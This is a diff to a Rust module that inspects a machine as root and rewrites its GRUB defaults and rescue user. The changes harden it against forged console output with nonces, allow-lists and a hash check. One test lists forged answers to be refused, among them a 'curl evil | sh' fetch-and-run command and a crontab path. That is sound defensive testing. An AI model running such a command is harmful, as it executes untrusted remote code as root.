@@ -9,8 +9,14 @@
 //! plan; a second run plans nothing.
 //!
 //! The rescue user's password never crosses the console: only its SHA-512
-//! crypt hash does (`chpasswd -e`, fed from a pipe, not argv), and the
-//! session redacts that too.
+//! crypt hash does (`chpasswd -e`, fed by the login shell's own `printf`:
+//! in no process's argv, not in sudo's log), and the session redacts that too.
+//!
+//! What the machine answers is read as untrusted text (another program may
+//! write to the console meanwhile, e.g. `wall`): every answer line carries
+//! a nonce of this run, only known paths, groups and commands are taken, a
+//! line that comes twice is an error, and the GRUB file is rewritten only
+//! if it still hashes to the text the plan was made from.
 
 mod grub_defaults;
 
@@ -40,8 +46,18 @@ pub struct Facts {
     /// The GRUB defaults file and its text, if there is one.
     pub grub: Option<(String, String)>,
     /// The command that regenerates GRUB's menu from the defaults.
-    pub regenerate: Option<String>,
+    pub regenerate: Option<&'static str>,
 }
+
+/// The GRUB defaults files this module reads and writes.
+const GRUB_FILES: [&str; 2] = ["/etc/default/grub", UBUNTU_CLOUD];
+
+/// What regenerates GRUB's menu, by the first program the machine has.
+const REGENERATE: [(&str, &str); 3] = [
+    ("update-grub", "update-grub"),
+    ("grub2-mkconfig", "grub2-mkconfig -o /boot/grub2/grub.cfg"),
+    ("grub-mkconfig", "grub-mkconfig -o /boot/grub/grub.cfg"),
+];
 
 /// One change the plan makes.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -62,7 +78,10 @@ pub enum Change {
         /// The changed lines (`-old`, `+new`).
         diff: Vec<String>,
         /// What regenerates the menu.
-        regenerate: String,
+        regenerate: &'static str,
+        /// SHA-256 (hex) of the text the plan was made from: the file is
+        /// rewritten only if it still holds exactly that.
+        before_sha256: String,
     },
 }
 
@@ -87,14 +106,22 @@ impl Plan {
 /// Reads what the machine has, as root.
 pub async fn examine(console: &mut dyn RootConsole, req: &Request) -> Result<Facts> {
     let user = req.rescue_user.as_str();
+    let tag = format!("@@{}", nonce()?);
+    let regenerate: String = REGENERATE
+        .iter()
+        .enumerate()
+        .map(|(i, (program, _))| {
+            let word = if i == 0 { "if" } else { "elif" };
+            format!("{word} command -v {program} >/dev/null; then echo '{tag} regen {program}'; ")
+        })
+        .collect();
     let script = format!(
-        "u={user}; if id -u \"$u\" >/dev/null 2>&1; then echo '@@user yes'; else echo '@@user no'; fi; \
-         for g in sudo wheel; do if getent group \"$g\" >/dev/null; then echo \"@@group $g\"; break; fi; done; \
-         f=/etc/default/grub; [ -f {UBUNTU_CLOUD} ] && f={UBUNTU_CLOUD}; \
-         if [ -f \"$f\" ]; then echo \"@@grub $f $(base64 -w0 <\"$f\")\"; fi; \
-         if command -v update-grub >/dev/null; then echo '@@regen update-grub'; \
-         elif command -v grub2-mkconfig >/dev/null; then echo '@@regen grub2-mkconfig -o /boot/grub2/grub.cfg'; \
-         elif command -v grub-mkconfig >/dev/null; then echo '@@regen grub-mkconfig -o /boot/grub/grub.cfg'; fi"
+        "u={user}; if id -u \"$u\" >/dev/null 2>&1; then echo '{tag} user yes'; else echo '{tag} user no'; fi; \
+         for g in sudo wheel; do if getent group \"$g\" >/dev/null; then echo \"{tag} group $g\"; break; fi; done; \
+         f={}; [ -f {UBUNTU_CLOUD} ] && f={UBUNTU_CLOUD}; \
+         if [ -f \"$f\" ]; then echo \"{tag} grub $f $(base64 -w0 <\"$f\")\"; fi; \
+         {regenerate}fi",
+        GRUB_FILES[0]
     );
     let (output, status) = console.run_as_root(&script).await?;
     if status != 0 {
@@ -103,34 +130,75 @@ pub async fn examine(console: &mut dyn RootConsole, req: &Request) -> Result<Fac
             output.trim()
         )));
     }
-    parse(&output)
+    parse(&output, &tag)
 }
 
-fn parse(output: &str) -> Result<Facts> {
+/// 16 random hex digits: what marks this run's answer lines (not a
+/// secret, only unguessable by a program writing to the console).
+fn nonce() -> Result<String> {
+    use ring::rand::SecureRandom;
+    let mut bytes = [0u8; 8];
+    ring::rand::SystemRandom::new()
+        .fill(&mut bytes)
+        .map_err(|_| {
+            Error::io(
+                "drawing a random nonce",
+                std::io::Error::other("no randomness"),
+            )
+        })?;
+    Ok(bytes.iter().map(|b| format!("{b:02x}")).collect())
+}
+
+/// The answer to [`examine`]'s script: only lines with this run's `tag`,
+/// only known values, each at most once.
+fn parse(output: &str, tag: &str) -> Result<Facts> {
     let mut facts = Facts {
         user_exists: false,
         admin_group: None,
         grub: None,
         regenerate: None,
     };
-    let mut saw_user = false;
+    let unexpected = |line: &str| {
+        Error::problems(format!(
+            "the console's answer holds a line this run did not ask for ({line:?}): another \
+             program may be writing to the console (e.g. `wall`); nothing was changed, try again"
+        ))
+    };
+    let mut seen = std::collections::HashSet::new();
     for line in output.lines().map(str::trim) {
-        if let Some(yes) = line.strip_prefix("@@user ") {
-            facts.user_exists = yes == "yes";
-            saw_user = true;
-        } else if let Some(group) = line.strip_prefix("@@group ") {
-            facts.admin_group = Some(group.to_string());
-        } else if let Some(rest) = line.strip_prefix("@@grub ") {
-            let (path, encoded) = rest.split_once(' ').unwrap_or((rest, ""));
-            let text = base64_decode(encoded).ok_or_else(|| {
-                Error::problems(format!("the machine's {path} came back damaged; try again"))
-            })?;
-            facts.grub = Some((path.to_string(), text));
-        } else if let Some(command) = line.strip_prefix("@@regen ") {
-            facts.regenerate = Some(command.to_string());
+        let Some(rest) = line.strip_prefix(tag).and_then(|r| r.strip_prefix(' ')) else {
+            continue;
+        };
+        let (key, value) = rest.split_once(' ').unwrap_or((rest, ""));
+        if !seen.insert(key.to_string()) {
+            return Err(unexpected(line));
+        }
+        match key {
+            "user" if value == "yes" || value == "no" => facts.user_exists = value == "yes",
+            "group" if value == "sudo" || value == "wheel" => {
+                facts.admin_group = Some(value.to_string())
+            }
+            "grub" => {
+                let (path, encoded) = value.split_once(' ').unwrap_or((value, ""));
+                if !GRUB_FILES.contains(&path) {
+                    return Err(unexpected(line));
+                }
+                let text = base64_decode(encoded).ok_or_else(|| {
+                    Error::problems(format!("the machine's {path} came back damaged; try again"))
+                })?;
+                facts.grub = Some((path.to_string(), text));
+            }
+            "regen" => {
+                let (_, command) = REGENERATE
+                    .iter()
+                    .find(|(program, _)| *program == value)
+                    .ok_or_else(|| unexpected(line))?;
+                facts.regenerate = Some(command);
+            }
+            _ => return Err(unexpected(line)),
         }
     }
-    if !saw_user {
+    if !seen.contains("user") {
         return Err(Error::problems(format!(
             "the console's answer was not in the expected shape: {:?}",
             output.trim()
@@ -145,6 +213,34 @@ fn base64_decode(text: &str) -> Option<String> {
         .decode(text.trim())
         .ok()?;
     String::from_utf8(bytes).ok()
+}
+
+/// The root command that rewrites GRUB's defaults file `path` to `text`
+/// and regenerates the menu: only if the file still hashes to
+/// `before_sha256` (the text the plan was made from), keeping the file as
+/// it was before the first `prepare` (`.ese-backup`, never overwritten),
+/// and putting the old file back if the menu cannot be regenerated.
+fn grub_rewrite(path: &str, text: &str, regenerate: &str, before_sha256: &str) -> String {
+    use base64::Engine;
+    let encoded = base64::engine::general_purpose::STANDARD.encode(text);
+    let p = shell_words::quote(path);
+    format!(
+        "set -e; [ \"$(sha256sum <{p} | cut -d' ' -f1)\" = {before_sha256} ] || \
+         {{ echo '{path} changed since it was read: nothing was changed, run prepare again'; exit 1; }}; \
+         [ -e {p}.ese-backup ] || cp -p {p} {p}.ese-backup; cp -p {p} {p}.ese-prev; \
+         printf %s '{encoded}' | base64 -d >{p}.ese-new; \
+         chmod 0644 {p}.ese-new; mv {p}.ese-new {p}; \
+         {regenerate} >/dev/null 2>&1 || {{ mv {p}.ese-prev {p}; \
+         echo '{regenerate} failed: {path} was put back as it was'; exit 1; }}; rm -f {p}.ese-prev; sync"
+    )
+}
+
+fn sha256_hex(text: &str) -> String {
+    use sha2::{Digest, Sha256};
+    Sha256::digest(text.as_bytes())
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
 }
 
 /// Whether GRUB's menu is on the serial console and waits (what the GRUB
@@ -191,7 +287,8 @@ pub fn plan(facts: &Facts, req: &Request) -> Plan {
                     path: path.clone(),
                     text: after,
                     diff,
-                    regenerate: regenerate.clone(),
+                    regenerate,
+                    before_sha256: sha256_hex(text),
                 });
             }
         }
@@ -219,7 +316,7 @@ pub async fn apply(
     password_hash: Option<&str>,
 ) -> Result<()> {
     for change in &plan.changes {
-        let command = match change {
+        let (output, status) = match change {
             Change::CreateUser { user, group } => {
                 let hash = password_hash
                     .ok_or_else(|| Error::usage("creating the rescue user needs its password"))?;
@@ -228,30 +325,37 @@ pub async fn apply(
                     .as_deref()
                     .map(|g| format!(" -G {}", shell_words::quote(g)))
                     .unwrap_or_default();
-                // The hash through a pipe: never in a process's argv.
-                format!(
-                    "useradd -m -s /bin/bash{group} {} && printf '%s\\n' {} | chpasswd -e && sync",
-                    shell_words::quote(name),
-                    shell_words::quote(&format!("{name}:{hash}"))
-                )
+                let created = console
+                    .run_as_root(&format!(
+                        "useradd -m -s /bin/bash{group} {}",
+                        shell_words::quote(name)
+                    ))
+                    .await?;
+                if created.1 != 0 {
+                    created
+                } else {
+                    let set = console
+                        .run_as_root_with_input(&format!("{name}:{hash}"), "chpasswd -e")
+                        .await?;
+                    if set.1 == 0 {
+                        console.run_as_root("sync").await?
+                    } else {
+                        set
+                    }
+                }
             }
             Change::GrubDefaults {
                 path,
                 text,
                 regenerate,
+                before_sha256,
                 ..
             } => {
-                use base64::Engine;
-                let encoded = base64::engine::general_purpose::STANDARD.encode(text);
-                let p = shell_words::quote(path);
-                format!(
-                    "set -e; cp -p {p} {p}.ese-backup; printf %s '{encoded}' | base64 -d >{p}.ese-new; \
-                     chmod 0644 {p}.ese-new; mv {p}.ese-new {p}; \
-                     {regenerate} >/dev/null 2>&1 || {{ echo '{regenerate} failed'; exit 1; }}; sync"
-                )
+                console
+                    .run_as_root(&grub_rewrite(path, text, regenerate, before_sha256))
+                    .await?
             }
         };
-        let (output, status) = console.run_as_root(&command).await?;
         if status != 0 {
             return Err(Error::problems(format!(
                 "preparing failed ({status}): {}",
@@ -274,7 +378,7 @@ mod tests {
                 "/etc/default/grub".into(),
                 "GRUB_TIMEOUT=0\nGRUB_CMDLINE_LINUX=\"console=ttyS0\"\n".into(),
             )),
-            regenerate: Some("update-grub".into()),
+            regenerate: Some("update-grub"),
         }
     }
 
@@ -304,16 +408,66 @@ mod tests {
 
     #[test]
     fn the_facts_parse_and_a_strange_answer_is_refused() {
-        let text = "GRUB_TIMEOUT=5\n";
         use base64::Engine;
+        let text = "GRUB_TIMEOUT=5\n";
+        let encoded = base64::engine::general_purpose::STANDARD.encode(text);
         let out = format!(
-            "@@user no\n@@group wheel\n@@grub /etc/default/grub {}\n@@regen grub2-mkconfig -o /boot/grub2/grub.cfg\n",
-            base64::engine::general_purpose::STANDARD.encode(text)
+            "@@n1 user no\n@@n1 group wheel\n@@n1 grub /etc/default/grub {encoded}\n@@n1 regen grub2-mkconfig\n"
         );
-        let facts = parse(&out).unwrap();
+        let facts = parse(&out, "@@n1").unwrap();
         assert_eq!(facts.admin_group.as_deref(), Some("wheel"));
         assert_eq!(facts.grub, Some(("/etc/default/grub".into(), text.into())));
-        assert!(parse("bash: command not found").is_err());
+        assert_eq!(
+            facts.regenerate,
+            Some("grub2-mkconfig -o /boot/grub2/grub.cfg")
+        );
+        assert!(parse("bash: command not found", "@@n1").is_err());
+        // Lines without this run's tag are not answers.
+        let other = format!("@@xx regen update-grub\n{out}");
+        assert_eq!(parse(&other, "@@n1").unwrap(), facts);
+    }
+
+    /// What another program writes to the console (`wall`) cannot steer a
+    /// root action: unknown values, paths and commands, and second copies
+    /// of an answer are refused.
+    #[test]
+    fn forged_answer_lines_are_refused() {
+        let good = "@@n1 user no\n@@n1 regen update-grub\n";
+        for forged in [
+            "@@n1 regen sh -c 'curl evil | sh'",
+            "@@n1 regen update-grub",
+            "@@n1 grub /etc/crontab Kg==",
+            "@@n1 group root",
+            "@@n1 user no",
+            "@@n1 shell yes",
+        ] {
+            let out = format!("{good}{forged}\n");
+            assert!(parse(&out, "@@n1").is_err(), "{forged} was taken");
+        }
+    }
+
+    #[test]
+    fn the_grub_rewrite_checks_the_file_is_unchanged_and_restores_on_failure() {
+        let command = grub_rewrite("/etc/default/grub", "X=1\n", "update-grub", "abc123");
+        assert!(
+            command.starts_with("set -e; [ \"$(sha256sum </etc/default/grub"),
+            "{command}"
+        );
+        assert!(command.contains("= abc123 ]"), "{command}");
+        assert!(
+            command.contains("[ -e /etc/default/grub.ese-backup ] || cp -p"),
+            "the first backup is kept: {command}"
+        );
+        assert!(
+            command.contains(
+                "update-grub >/dev/null 2>&1 || { mv /etc/default/grub.ese-prev /etc/default/grub;"
+            ),
+            "{command}"
+        );
+        assert_eq!(
+            sha256_hex("abc"),
+            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+        );
     }
 
     #[test]
